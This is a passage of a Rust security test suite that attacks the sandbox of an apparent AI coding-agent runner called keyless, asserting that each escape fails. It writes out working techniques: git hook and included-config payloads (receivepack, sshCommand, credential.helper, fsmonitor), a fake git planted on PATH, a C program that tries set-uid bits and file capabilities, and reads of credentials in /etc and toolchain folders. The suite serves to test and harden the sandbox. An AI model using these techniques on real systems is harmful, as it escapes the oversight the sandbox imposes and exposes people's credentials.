//! Issue 29's claims attacked a second time, by a reviewer who had not read the fix (only the
//! issue's words, `docs/sandbox.md`, the README and the test harness) and who knew what the first
//! reviewer had tried (`attacks29.rs`): other classes, other spellings, keyless's own hands after
//! a command (its push, its commit, its next run's allow-list), the redactor, and what a person
//! confirms at a terminal. Every attack runs the real thing (the built `keyless apply`,
//! `keyless status`, real `bwrap`, real git, a real pseudo-terminal, the real proxy) in a
//! temporary folder, as root and, where the claim says so, as an ordinary user (uid 65534
//! through `setpriv`). Each test asserts that the harm did NOT happen.
//!
//! The attacks that got through when this file was written fail here, and say so in their doc
//! comments ("got through"), with the setting they need; the others ("held") were seen to
//! succeed with the sandbox off or against plain git, so they can fail.
//!
//! What these tests never do: touch anything outside their temporary folder. A command's
//! "harm" is a marker file in the temporary victim folder; `/etc` is changed only inside a
//! private mount namespace of the test's own (`unshare -m`, an overlay whose upper layer is in
//! the temporary folder), which no other process sees.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::common::pty::Pty;
use crate::sandbox::{cargo_crate, git};

/// An ordinary user of this machine (`nobody`), to run keyless as one.
const NOBODY: u32 = 65534;

/// The `.env` secret the redactor knows (a value of a secret-named key in the workspace's
/// `.env`), which a command can read and print in any form.
const DOTENV_SECRET: &str = "sk-proj-Vb8Kq2Lm9Xr4Tn7Wc1Yz5Hd3Fg6Js0Pa8Qe2Ru";

fn is_root() -> bool {
    // SAFETY: geteuid cannot fail.
    unsafe { libc::geteuid() == 0 }
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

fn run(command: &str) -> String {
    format!("@@runcommand on_error=continue\n<<<CMD\n{command}\nCMD>>>\n@@end\n")
}

const NEXT: &str = "@@next\n@@end\n@@eof\n";

const COMMIT: &str = "@@commit\n<<<MSG\nA change\nMSG>>>\n@@end\n";

/// One attack's place: a temporary folder (traversable, so an ordinary user can be given it)
/// holding a fake home, a victim folder outside the workspace where a successful attack leaves
/// its marker, and a workspace that is a git repository with a keyless.json that lets one reply
/// carry every attack in Auto mode and carries each out whatever the one before did.
struct Place {
    dir: tempfile::TempDir,
    home: PathBuf,
    ws: PathBuf,
    victim: PathBuf,
    env: Vec<(String, String)>,
    /// Runs keyless as uid 65534 (everything in the folder is given to it first).
    nobody: bool,
}

impl Place {
    fn new() -> Place {
        let dir = tempfile::tempdir().unwrap();
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let home = dir.path().join("home");
        let ws = dir.path().join("ws");
        let victim = dir.path().join("victim");
        fs::create_dir_all(&home).unwrap();
        fs::create_dir_all(&victim).unwrap();
        fs::create_dir_all(&ws).unwrap();
        git(&ws, &["init", "-q"]);
        git(&ws, &["config", "user.name", "Person"]);
        git(&ws, &["config", "user.email", "person@example.com"]);
        let place = Place {
            dir,
            home,
            ws,
            victim,
            env: Vec::new(),
            nobody: false,
        };
        place.config("");
        place
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    /// The workspace's keyless.json, with `sandbox` added to its `Sandbox` section.
    fn config(&self, sandbox: &str) {
        fs::write(
            self.ws.join("keyless.json"),
            format!(
                "{{ \"Limits\": {{ \"MaxCommandsPerResponse\": 100 }}, \"Commands\": {{ \"BatchFailureMode\": \"Continue\" }}, \"Sandbox\": {{ \"AllowMissing\": [\"*\"]{sandbox} }} }}\n"
            ),
        )
        .unwrap();
    }

    /// Writes `content` at `rel` in the workspace, with `$VICTIM` and `$WS` spelled out.
    fn file(&self, rel: &str, content: &str) {
        let path = self.ws.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, self.spell(content)).unwrap();
    }

    fn spell(&self, text: &str) -> String {
        text.replace("$VICTIM", &self.victim.display().to_string())
            .replace("$WS", &self.ws.display().to_string())
    }

    fn env(&mut self, key: &str, value: &str) {
        self.env.push((key.into(), value.into()));
    }

    /// A bare repository outside the workspace as `origin`, and a branch keyless may commit on
    /// (not `main` or `master`) with one commit of what the workspace holds: `@@commit` then
    /// commits and pushes.
    fn with_origin(&self) {
        let origin = self.root().join("origin.git");
        git(self.root(), &["init", "-q", "--bare", "origin.git"]);
        git(
            &self.ws,
            &["remote", "add", "origin", &origin.display().to_string()],
        );
        git(&self.ws, &["checkout", "-q", "-b", "feature"]);
        git(&self.ws, &["add", "-A"]);
        git(&self.ws, &["commit", "-q", "-m", "start"]);
    }

    /// The `keyless` command with this place's environment, as root or as an ordinary user.
    fn keyless(&self, args: &[&str]) -> Command {
        let bin = env!("CARGO_BIN_EXE_keyless");
        let mut command;
        if self.nobody {
            let status = Command::new("chown")
                .args(["-R", &format!("{NOBODY}:{NOBODY}")])
                .arg(self.root())
                .status()
                .unwrap();
            assert!(status.success());
            command = Command::new("setpriv");
            command
                .args([
                    format!("--reuid={NOBODY}"),
                    format!("--regid={NOBODY}"),
                    "--clear-groups".into(),
                    "env".into(),
                    "-i".into(),
                    "PATH=/usr/local/bin:/usr/bin:/bin".into(),
                    format!("HOME={}", self.home.display()),
                ])
                .args(self.env.iter().map(|(k, v)| format!("{k}={v}")))
                .arg(bin)
                .current_dir("/");
        } else {
            let real_home = PathBuf::from(std::env::var_os("HOME").unwrap());
            command = Command::new(bin);
            command
                .env("HOME", &self.home)
                .env(
                    "CARGO_HOME",
                    std::env::var_os("CARGO_HOME")
                        .unwrap_or_else(|| real_home.join(".cargo").into()),
                )
                .env(
                    "RUSTUP_HOME",
                    std::env::var_os("RUSTUP_HOME")
                        .unwrap_or_else(|| real_home.join(".rustup").into()),
                )
                .env_remove("CARGO_TARGET_DIR")
                .current_dir("/");
            for (k, v) in &self.env {
                command.env(k, v);
            }
        }
        command.args(args).stdin(Stdio::null());
        command
    }

    /// `keyless status` of the workspace, as the same user; stdout and stderr together.
    fn status(&self) -> String {
        let ws = self.ws.display().to_string();
        let out = self
            .keyless(&["status", "--workspace", &ws])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
    }

    /// `keyless apply` of `reply` in `mode`; stdout and stderr together.
    fn apply(&self, mode: &str, reply: &str) -> String {
        let file = self.root().join("reply.txt");
        fs::write(&file, self.spell(reply)).unwrap();
        let (file, ws) = (file.display().to_string(), self.ws.display().to_string());
        let out = self
            .keyless(&[
                "apply",
                &file,
                "--workspace",
                &ws,
                "--mode",
                mode,
                "--pace",
                "batch",
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
    }

    /// Writes `body` as the workspace script `name` and runs `sh name` in Auto mode (the policy
    /// sees only `sh name`, as it would for a script the model wrote), then `after`.
    fn script(&self, name: &str, body: &str, after: &str) -> String {
        self.file(name, body);
        self.apply(
            "auto",
            &format!("{}{after}{NEXT}", run(&format!("sh {name}"))),
        )
    }

    /// What a command wrote into `name` (reversed, so no redactor hid it), put right again.
    fn dump(&self, name: &str) -> String {
        reversed(&fs::read_to_string(self.ws.join(name)).unwrap_or_default())
    }

    /// The markers successful attacks left in the victim folder.
    fn markers(&self) -> Vec<String> {
        let mut found: Vec<String> = fs::read_dir(&self.victim)
            .unwrap()
            .flatten()
            .map(|e| {
                let text = fs::read_to_string(e.path()).unwrap_or_default();
                format!("{}: {}", e.file_name().to_string_lossy(), text.trim())
            })
            .collect();
        found.sort();
        found
    }
}

/// Claim 2, keyless's push (held): a repository whose hooks live in the worktree
/// (`core.hooksPath = .husky`, as husky and lefthook set it) has them rewritten by a command,
/// every hook git knows; keyless's `@@commit` then commits and pushes with the git program,
/// outside the sandbox. No hook may run. Plain `git push` in the same repository runs them.
#[test]
fn keyless_s_push_runs_no_hook_a_command_planted_in_the_hooks_path() {
    let place = Place::new();
    place.file(".husky/pre-push", "#!/bin/sh\nexit 0\n");
    git(&place.ws, &["config", "core.hooksPath", ".husky"]);
    place.with_origin();
    let hooks = [
        "pre-push",
        "pre-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-commit",
        "reference-transaction",
        "post-index-change",
        "post-rewrite",
        "push-to-checkout",
        "pre-auto-gc",
        "fsmonitor-watchman",
    ];
    let plant: String = hooks
        .iter()
        .map(|h| {
            format!(
                "printf '#!/bin/sh\\nid > $VICTIM/pwned-{h}\\n' > .husky/{h} && chmod +x .husky/{h}\n"
            )
        })
        .collect();
    let out = place.script("plant.sh", &format!("{plant}echo change > f.txt\n"), COMMIT);
    assert!(out.contains("pushed feature to origin"), "{out}");
    assert!(
        place.markers().is_empty(),
        "keyless's commit or push ran a hook a command wrote: {:?}\n{out}",
        place.markers()
    );
}

/// Claim 2, keyless's push (got through, as root: the marker holds uid 0): a repository whose
/// configuration includes a file of its worktree (`include.path = ../.gitconfig-shared`, how
/// projects share aliases and diff drivers) gets that file rewritten by the issue's vehicle, a
/// build script `cargo build` runs in Ask mode without a yes; `@@commit` (no yes either) then
/// pushes with the git program outside the sandbox, which runs the `receivepack` (or
/// `core.sshCommand`, `credential.helper`) the file now names: the machine's root runs what the
/// model wrote. keyless's own git must not take program-running settings from a file a command
/// could write.
#[test]
fn keyless_s_push_runs_nothing_a_command_wrote_into_an_included_git_config() {
    let place = Place::new();
    place.file(".gitconfig-shared", "[alias]\n\tst = status\n");
    git(
        &place.ws,
        &["config", "include.path", "../.gitconfig-shared"],
    );
    cargo_crate(&place.ws);
    place.file(".gitignore", "target/\n");
    place.with_origin();
    let payload = format!(
        "[remote \\\"origin\\\"]\\n\\treceivepack = \\\"id > {0}/pwned-receivepack; git-receive-pack\\\"\\n[core]\\n\\tsshCommand = \\\"id > {0}/pwned-sshcommand; ssh\\\"\\n[credential]\\n\\thelper = \\\"!id > {0}/pwned-credential\\\"\\n",
        place.victim.display()
    );
    place.file(
        "build.rs",
        &format!(
            "fn main() {{\n    let _ = std::fs::write(\".gitconfig-shared\", \"{payload}\");\n}}\n"
        ),
    );
    let out = place.apply(
        "ask",
        &format!("{}{COMMIT}{NEXT}", run("cargo build --offline -q")),
    );
    assert!(out.contains("tier: Build"), "{out}");
    assert!(
        fs::read_to_string(place.ws.join(".gitconfig-shared"))
            .unwrap()
            .contains("receivepack"),
        "the build script rewrote the included file: {out}"
    );
    // The push is refused, naming the file, and the commit is kept: keyless cannot read git's
    // configuration without the include, so it does not push through it at all.
    assert!(
        out.contains("not pushed")
            && out.contains(".gitconfig-shared")
            && out.contains("committed"),
        "{out}"
    );
    assert!(
        place.markers().is_empty(),
        "keyless's push ran what a build script wrote, outside the sandbox: {:?}\n{out}",
        place.markers()
    );
}

/// Claim 2, keyless's push (got through, as root): keyless's `@@commit` pushes with the first
/// `git` on `PATH`, outside the sandbox, so a `git` a command can plant there runs as the
/// machine's root. Two places a command can write: a `PATH` folder inside the workspace
/// (`node_modules/.bin` or a project's `bin`, as direnv's `PATH_add` and many shell setups put
/// it), and a cache's `bin` (`~/.cargo/bin`, which rustup puts first on `PATH`) where the caches
/// have no copy-on-write layer (`caches` missing: user namespaces refused to keyless, as
/// Ubuntu 24.04 does; simulated here), which the run announces only as a risk to later builds.
#[test]
fn keyless_s_push_never_runs_a_git_a_command_planted_on_path() {
    let plant = |dir: &str, victim: &Path| {
        format!(
            "mkdir -p {dir}\nprintf '#!/bin/sh\\nid > {}/pwned-git\\nPATH=/usr/bin:/bin exec git \"$@\"\\n' > {dir}/git\nchmod +x {dir}/git\necho change > f.txt\n",
            victim.display()
        )
    };
    let real_path = std::env::var("PATH").unwrap();

    let mut place = Place::new();
    place.with_origin();
    let bin = place.ws.join("node_modules/.bin");
    place.env("PATH", &format!("{}:{real_path}", bin.display()));
    let out = place.script(
        "plant.sh",
        &plant("node_modules/.bin", &place.victim),
        COMMIT,
    );
    assert!(bin.join("git").exists(), "the command planted git: {out}");
    assert!(out.contains("status: ok | commit:"), "{out}");
    let mut ran = Vec::new();
    if !place.markers().is_empty() {
        ran.push(format!("from the workspace: {:?}\n{out}", place.markers()));
    }

    let mut place = Place::new();
    place.with_origin();
    let cargo_home = place.root().join("cargo-home");
    fs::create_dir_all(cargo_home.join("bin")).unwrap();
    place.env("CARGO_HOME", &cargo_home.display().to_string());
    place.env(
        "PATH",
        &format!("{}:{real_path}", cargo_home.join("bin").display()),
    );
    place.env("KEYLESS_SANDBOX_SIMULATE", "no-layers");
    let out = place.script("plant.sh", &plant("$CARGO_HOME/bin", &place.victim), COMMIT);
    assert!(
        out.contains("caches"),
        "the run says caches are missing: {out}"
    );
    assert!(out.contains("status: ok | commit:"), "{out}");
    if !place.markers().is_empty() {
        ran.push(format!(
            "from a cache without a layer: {:?}\n{out}",
            place.markers()
        ));
    }
    assert!(
        ran.is_empty(),
        "keyless ran a git a command planted:\n{}",
        ran.join("\n")
    );
}

/// Claim 2 (got through): a hidden path (`Sandbox.HiddenPaths`) in the workspace is refused to
/// the file commands and invisible to commands, but `@@commit` stages it like any file and
/// pushes it to `origin`: one line of the model's reply sends what the person hid off the
/// machine (to a public repository, where anyone reads it).
#[test]
fn commit_never_stages_or_pushes_a_hidden_path() {
    let place = Place::new();
    place.with_origin();
    place.file("data/private/notes.txt", "HIDDEN-b29-Cm4\n");
    place.config(&format!(
        ", \"HiddenPaths\": [\"{}\"]",
        place.ws.join("data/private").display()
    ));
    let out = place.apply(
        "auto",
        &format!("@@newfile notes.txt\n<<<CONTENT\nhello\nCONTENT>>>\n@@end\n{COMMIT}{NEXT}"),
    );
    assert!(out.contains("status: ok | commit:"), "{out}");
    let origin = place.root().join("origin.git");
    let pushed = Command::new("git")
        .args(["-C", &origin.display().to_string()])
        .args(["log", "-p", "--all"])
        .output()
        .unwrap();
    let pushed = String::from_utf8_lossy(&pushed.stdout);
    assert!(pushed.contains("hello"), "the commit was pushed: {pushed}");
    assert!(
        !pushed.contains("HIDDEN-b29-Cm4"),
        "the hidden file was committed and pushed:\n{pushed}\n{out}"
    );
}

/// Claim 2, backups (held): a command hard-links a file before the model deletes or replaces it,
/// then writes through the other name; `keyless undo` must still put back the bytes the file had
/// before the batch (a backup that shared the file's inode would now hold the command's).
#[test]
fn a_backup_keeps_its_bytes_when_a_command_writes_through_a_hard_link() {
    let place = Place::new();
    place.file("notes.txt", "ORIGINAL-NOTES\n");
    place.file("data.txt", "ORIGINAL-DATA\n");
    git(&place.ws, &["add", "-A"]);
    git(&place.ws, &["commit", "-q", "-m", "start"]);
    let reply = format!(
        "{}@@deletefile notes.txt\n@@end\n@@updatefile data.txt\n<<<CONTENT\nmodel version\nCONTENT>>>\n@@end\n{}{NEXT}",
        run("ln notes.txt alias.txt && ln data.txt alias2.txt"),
        run("echo EVIL > alias.txt; echo EVIL2 > alias2.txt; cat alias.txt alias2.txt")
    );
    let out = place.apply("auto", &reply);
    assert!(
        out.contains("EVIL2"),
        "the command wrote through the links: {out}"
    );
    let undone = String::from_utf8_lossy(
        &place
            .keyless(&["undo", "--workspace", &place.ws.display().to_string()])
            .output()
            .unwrap()
            .stdout,
    )
    .into_owned();
    assert_eq!(
        fs::read_to_string(place.ws.join("notes.txt")).unwrap_or_default(),
        "ORIGINAL-NOTES\n",
        "{undone}\n{out}"
    );
    assert_eq!(
        fs::read_to_string(place.ws.join("data.txt")).unwrap_or_default(),
        "ORIGINAL-DATA\n",
        "{undone}\n{out}"
    );
}

/// A C program that tries every other way to leave a program that runs with more rights than
/// its caller: `fchmodat2` (Linux 6.6) and the x32 numbers of the mode-setting calls, a set-uid
/// regular file through `mknodat`, an `O_TMPFILE` with a set-uid mode linked in, and file
/// capabilities (`security.capability`, revisions 2 and 3).
const SET_ID_SPELLINGS: &str = r#"#define _GNU_SOURCE
#include <stdio.h>
#include <unistd.h>
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <linux/capability.h>
static void copyid(const char *to) {
    int in = open("/usr/bin/id", O_RDONLY), out = open(to, O_CREAT | O_WRONLY | O_TRUNC, 0755);
    char b[65536]; ssize_t n;
    while ((n = read(in, b, sizeof b)) > 0) if (write(out, b, n) != n) break;
    close(in); close(out);
}
static void report(const char *label, long r) {
    printf("%s: %s (%ld, errno %d)\n", label, r >= 0 ? "ALLOWED" : "refused", r, errno);
    fflush(stdout);
}
int main(void) {
    copyid("f-fchmodat2"); errno = 0;
    report("fchmodat2", syscall(452, AT_FDCWD, "f-fchmodat2", 04755, 0));
    copyid("f-x32-fchmodat2"); errno = 0;
    report("x32-fchmodat2", syscall(0x40000000 | 452, AT_FDCWD, "f-x32-fchmodat2", 04755, 0));
    copyid("f-x32-fchmodat"); errno = 0;
    report("x32-fchmodat", syscall(0x40000000 | SYS_fchmodat, AT_FDCWD, "f-x32-fchmodat", 04755));
    copyid("f-x32-chmod"); errno = 0;
    report("x32-chmod", syscall(0x40000000 | SYS_chmod, "f-x32-chmod", 02755));
    errno = 0;
    report("mknodat", syscall(SYS_mknodat, AT_FDCWD, "f-mknodat", S_IFREG | 04755, 0));
    errno = 0;
    report("x32-openat", syscall(0x40000000 | SYS_openat, AT_FDCWD, "f-x32-openat", O_CREAT | O_WRONLY, 04755));
    errno = 0;
    int fd = open(".", O_TMPFILE | O_RDWR, 04755);
    if (fd >= 0) {
        char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", fd); errno = 0;
        report("tmpfile", linkat(AT_FDCWD, p, AT_FDCWD, "f-tmpfile", AT_SYMLINK_FOLLOW));
    } else report("tmpfile", fd);
    struct vfs_cap_data cap; memset(&cap, 0, sizeof cap);
    cap.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE;
    cap.data[0].permitted = (1u << CAP_SETUID) | (1u << CAP_DAC_OVERRIDE);
    copyid("f-caps"); errno = 0;
    report("caps-v2", setxattr("f-caps", "security.capability", &cap, XATTR_CAPS_SZ_2, 0));
    struct vfs_ns_cap_data cap3; memset(&cap3, 0, sizeof cap3);
    cap3.magic_etc = VFS_CAP_REVISION_3 | VFS_CAP_FLAGS_EFFECTIVE;
    cap3.data[0].permitted = 1u << CAP_SETUID;
    copyid("f-caps3"); errno = 0;
    report("caps-v3", setxattr("f-caps3", "security.capability", &cap3, XATTR_CAPS_SZ_3, 0));
    return 0;
}
"#;

/// Claim 1 (held): no program that runs with more rights than its caller is left behind through
/// the calls `attacks29.rs` did not try (see [`SET_ID_SPELLINGS`]), and no file of the workspace
/// carries a capability. Without the sandbox (as root) each call succeeds.
#[cfg(target_arch = "x86_64")]
#[test]
fn no_set_id_bit_or_file_capability_through_other_calls() {
    let place = Place::new();
    place.file("setid.c", SET_ID_SPELLINGS);
    let status = Command::new("cc")
        .arg("-o")
        .arg(place.ws.join("setid"))
        .arg(place.ws.join("setid.c"))
        .status()
        .unwrap();
    assert!(status.success());
    let out = place.apply("auto", &format!("{}{NEXT}", run("./setid")));
    assert!(out.contains("caps-v3:"), "{out}");
    assert!(!out.contains("ALLOWED"), "{out}");
    for entry in fs::read_dir(&place.ws).unwrap().flatten() {
        let meta = fs::symlink_metadata(entry.path()).unwrap();
        assert_eq!(
            meta.permissions().mode() & 0o6000,
            0,
            "{}: {out}",
            entry.path().display()
        );
        let caps = Command::new("getfattr")
            .args(["-n", "security.capability"])
            .arg(entry.path())
            .output();
        if let Ok(caps) = caps {
            assert!(
                !String::from_utf8_lossy(&caps.stdout).contains("security.capability="),
                "{} carries a capability: {out}",
                entry.path().display()
            );
        }
    }
}

/// The `memory-limit` guarantee (got through, as root and as an ordinary user): "the command is
/// also the out-of-memory killer's first choice (`oom_score_adj` 1000)", the only memory
/// protection where there is no cgroup (an ordinary user's run here), but a command writes `0`
/// back into its own `/proc/self/oom_score_adj` and is no longer the first choice. The kernel
/// lets any process lower its own score (this machine's kernel keeps no floor for it), so what
/// is fixed is what keyless claims: where the score is all there is, `keyless status` says the
/// guarantee is missing and that a command can undo the score; where a cgroup bounds the memory
/// (as root here), the limit holds whatever the score.
#[test]
fn a_command_cannot_lower_its_out_of_memory_score() {
    let script = "cat /proc/self/oom_score_adj\necho 0 > /proc/self/oom_score_adj\necho -1000 > /proc/self/oom_score_adj\necho now $(cat /proc/self/oom_score_adj)\n";
    for nobody in [false, true] {
        if nobody && !is_root() {
            continue;
        }
        let mut place = Place::new();
        place.nobody = nobody;
        let out = place.script("oom.sh", script, "");
        assert!(out.contains("1000\n"), "keyless raised it first: {out}");
        if out.contains("now 1000") {
            continue;
        }
        // Lowered: then keyless must not have claimed the score as the protection.
        let status = place.status();
        if !status.contains("at most half the memory") {
            assert!(
                status.contains("which it can undo"),
                "as {}, the score was claimed as a protection:\n{status}",
                if nobody { "uid 65534" } else { "root" }
            );
        }
    }
}

/// Claim 5 (got through, as an ordinary user): a repository inside a folder of the user's that
/// the user cannot read (mode 000, or 0311) is not found by keyless's walk, which runs as that
/// user; the command, the same user, opens the folder (`chmod`) and writes the repository's
/// hooks. A folder keyless cannot read must be treated as if it held a repository.
#[test]
fn a_repository_in_a_folder_keyless_cannot_read_is_read_only_to_commands() {
    if !is_root() {
        return;
    }
    let mut place = Place::new();
    place.nobody = true;
    fs::create_dir_all(place.ws.join("locked/repo")).unwrap();
    git(&place.ws.join("locked/repo"), &["init", "-q"]);
    let locked = place.ws.join("locked");
    // The folder is given to uid 65534 with everything else, then locked by its owner.
    let status = Command::new("chown")
        .args(["-R", &format!("{NOBODY}:{NOBODY}")])
        .arg(place.root())
        .status()
        .unwrap();
    assert!(status.success());
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).unwrap();
    let out = place.script(
        "locked.sh",
        "chmod 755 locked && printf '#!/bin/sh\\necho pwned\\n' > locked/repo/.git/hooks/post-checkout && echo WROTE-HOOK\n",
        "",
    );
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).unwrap();
    assert!(
        !place
            .ws
            .join("locked/repo/.git/hooks/post-checkout")
            .exists(),
        "a command wrote a hook into a repository keyless never saw:\n{out}"
    );
}

/// Claim 5 (got through; a design question): a command makes a new repository in the workspace
/// (`git init tools/fixture`, as a test fixture would) and gives it a `core.fsmonitor`; the
/// repository is found, and protected, only from the next batch on. Whatever runs `git status`
/// there next (the person, their shell prompt, their editor's repository scan) runs the
/// program, outside any sandbox. Here the test plays the person.
#[test]
fn a_repository_a_command_creates_runs_nothing_when_the_person_uses_it() {
    let place = Place::new();
    let out = place.script(
        "fixture.sh",
        "mkdir -p tools/fixture && cd tools/fixture && git init -q && printf '[core]\\n\\tfsmonitor = \"id > $VICTIM/pwned-fsmonitor; false\"\\n' >> .git/config && echo MADE\n",
        "",
    );
    assert!(out.contains("MADE"), "{out}");
    let _ = Command::new("git")
        .args(["status", "--short"])
        .current_dir(place.ws.join("tools/fixture"))
        .env("HOME", &place.home)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    assert!(
        place.markers().is_empty(),
        "the person's git status ran what a command planted: {:?}\n{out}",
        place.markers()
    );
}

/// Runs `script` as root in a mount namespace of its own (nothing it mounts is seen outside),
/// with `/etc` overlaid by `etc_upper` (files added to `/etc` for this namespace only); the
/// script gets the keyless binary as `$KEYLESS`. Returns what it printed.
fn in_private_mounts(place: &Place, etc_upper: &Path, script: &str) -> String {
    let work = place.root().join("etc-work");
    fs::create_dir_all(&work).unwrap();
    let full = format!(
        "set -e\nmount -t overlay overlay -o lowerdir=/etc,upperdir={},workdir={} /etc\n{script}",
        etc_upper.display(),
        work.display()
    );
    let real_home = PathBuf::from(std::env::var_os("HOME").unwrap());
    let out = Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", &full])
        .env("KEYLESS", env!("CARGO_BIN_EXE_keyless"))
        .env("HOME", &place.home)
        .env(
            "CARGO_HOME",
            std::env::var_os("CARGO_HOME").unwrap_or_else(|| real_home.join(".cargo").into()),
        )
        .env(
            "RUSTUP_HOME",
            std::env::var_os("RUSTUP_HOME").unwrap_or_else(|| real_home.join(".rustup").into()),
        )
        .env_remove("CARGO_TARGET_DIR")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

fn write_mode(path: &Path, content: &str, mode: u32) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// Claim 4 (got through): the tools' system-wide settings in `/etc`, which every user may read
/// and the world shows as they are, in the forms the tools document: npm's global `npmrc` with
/// an `_authToken`, pip's `/etc/pip.conf` with an index URL's password, git's `/etc/gitconfig`
/// with an `http.extraheader` bearer token and a URL rewrite that carries a token (how CI
/// images give builds private dependencies). The home's `.gitconfig` is cleaned; these are not.
#[test]
fn credentials_in_the_system_wide_tool_settings_never_reach_a_command() {
    if !is_root() {
        return;
    }
    let place = Place::new();
    let upper = place.root().join("etc-upper");
    write_mode(
        &upper.join("npmrc"),
        "//registry.npmjs.org/:_authToken=ETC-NPMRC-b29-Lp3\n",
        0o644,
    );
    write_mode(
        &upper.join("pip.conf"),
        "[global]\nindex-url = https://ci:ETC-PIP-b29-Wx5@pypi.corp.example/simple\n",
        0o644,
    );
    write_mode(
        &upper.join("gitconfig"),
        "[http]\n\textraheader = AUTHORIZATION: bearer ETC-GIT-b29-Rt6\n[url \"https://x-access-token:ETC-GITURL-b29-Qq2@github.com/\"]\n\tinsteadOf = https://github.com/\n",
        0o644,
    );
    place.file(
        "read.sh",
        "cat /etc/npmrc /etc/pip.conf /etc/gitconfig 2>&1 | rev > dump.txt\ngit config --system --list 2>&1 | rev >> dump.txt\n",
    );
    place.file("reply.txt", &format!("{}{NEXT}", run("sh read.sh")));
    let said = in_private_mounts(
        &place,
        &upper,
        &format!(
            "$KEYLESS apply {0}/reply.txt --workspace {0} --mode auto --pace batch\n",
            place.ws.display()
        ),
    );
    let dump = place.dump("dump.txt");
    assert!(
        dump.contains("[global]"),
        "the files were read: {dump}\n{said}"
    );
    for secret in [
        "ETC-NPMRC-b29-Lp3",
        "ETC-PIP-b29-Wx5",
        "ETC-GIT-b29-Rt6",
        "ETC-GITURL-b29-Qq2",
    ] {
        assert!(
            !dump.contains(secret),
            "{secret} reached a command:\n{dump}\n{said}"
        );
    }
}

/// Claim 1 with `privilege` missing (got through, as root on a workspace that takes no idmapped
/// mount: an overlay root in a container, NFS, FUSE; ramfs here). The command is then the
/// machine's uid 0 without capabilities, and reads every file of `/etc` that only root may read
/// but for the few masked by name: a CI runner's registration token
/// (`/etc/gitlab-runner/config.toml`), apt's repository credentials (`/etc/apt/auth.conf.d`),
/// an IPsec secret. A file only root may read must stay unreadable to a command that is root.
#[test]
fn root_only_files_stay_unreadable_to_a_command_that_runs_as_uid_0() {
    if !is_root() {
        return;
    }
    let place = Place::new();
    let upper = place.root().join("etc-upper");
    write_mode(
        &upper.join("gitlab-runner/config.toml"),
        "[[runners]]\n  token = \"glrt-RUNNER-b29-Zk4\"\n",
        0o600,
    );
    write_mode(
        &upper.join("apt/auth.conf.d/corp.conf"),
        "machine apt.corp.example login ci password APT-b29-Qe8\n",
        0o600,
    );
    write_mode(
        &upper.join("ipsec.secrets"),
        ": PSK \"IPSEC-b29-Ht5\"\n",
        0o600,
    );
    write_mode(&upper.join("b29-readable.conf"), "READABLE-b29\n", 0o644);
    let ram = place.root().join("ram");
    fs::create_dir_all(&ram).unwrap();
    let ws = ram.join("ws");
    let script = format!(
        "mount -t ramfs ramfs {ram}\nmkdir -p {ws}\ncd {ws}\ngit init -q\necho '{{ \"Sandbox\": {{ \"AllowMissing\": [\"*\"] }} }}' > keyless.json\nprintf 'cat /etc/b29-readable.conf /etc/gitlab-runner/config.toml /etc/apt/auth.conf.d/corp.conf /etc/ipsec.secrets 2>&1 | rev > dump.txt\\n' > read.sh\nprintf '@@runcommand on_error=continue\\n<<<CMD\\nsh read.sh\\nCMD>>>\\n@@end\\n@@next\\n@@end\\n@@eof\\n' > ../reply.txt\ncd /\n$KEYLESS apply {ram}/reply.txt --workspace {ws} --mode auto --pace batch\necho DUMP-FOLLOWS\nrev {ws}/dump.txt\n",
        ram = ram.display(),
        ws = ws.display()
    );
    let said = in_private_mounts(&place, &upper, &script);
    assert!(
        said.contains("privilege"),
        "the guarantee is reported missing: {said}"
    );
    let dump = said.split("DUMP-FOLLOWS").nth(1).unwrap_or_default();
    assert!(dump.contains("READABLE-b29"), "the command ran: {said}");
    for secret in ["glrt-RUNNER-b29-Zk4", "APT-b29-Qe8", "IPSEC-b29-Ht5"] {
        assert!(
            !dump.contains(secret),
            "{secret}, readable only by root, reached a command:\n{said}"
        );
    }
}

/// Claim 4 (got through): the toolchains' folders are shown read-only, and the credentials
/// their installations keep are shown with them, unfiltered: the global `npmrc` of a node
/// installed by nvm, Volta or asdf (`<prefix>/etc/npmrc`, where `npm config set --global`
/// writes), the global Maven settings of SDKMAN's Maven (`conf/settings.xml`), a Gradle
/// distribution's `init.d`, and the site-wide `pip.conf` of a pyenv Python (`sys.prefix`).
#[test]
fn credentials_kept_in_toolchain_folders_never_reach_a_command() {
    let mut place = Place::new();
    let h = place.home.clone();
    let files = [
        (
            ".nvm/versions/node/v20.11.0/etc/npmrc",
            "//registry.npmjs.org/:_authToken=NVM-b29-Hq3\n",
        ),
        (
            ".volta/tools/image/node/20.11.0/etc/npmrc",
            "//registry.npmjs.org/:_authToken=VOLTA-b29-Hq3\n",
        ),
        (
            ".asdf/installs/nodejs/20.11.0/etc/npmrc",
            "//registry.npmjs.org/:_authToken=ASDF-b29-Hq3\n",
        ),
        (
            ".sdkman/candidates/maven/3.9.6/conf/settings.xml",
            "<settings><servers><server><id>corp</id><username>ci</username><password>SDKMAN-MVN-b29-Tt8</password></server></servers></settings>\n",
        ),
        (
            ".sdkman/candidates/gradle/8.5/init.d/corp.gradle",
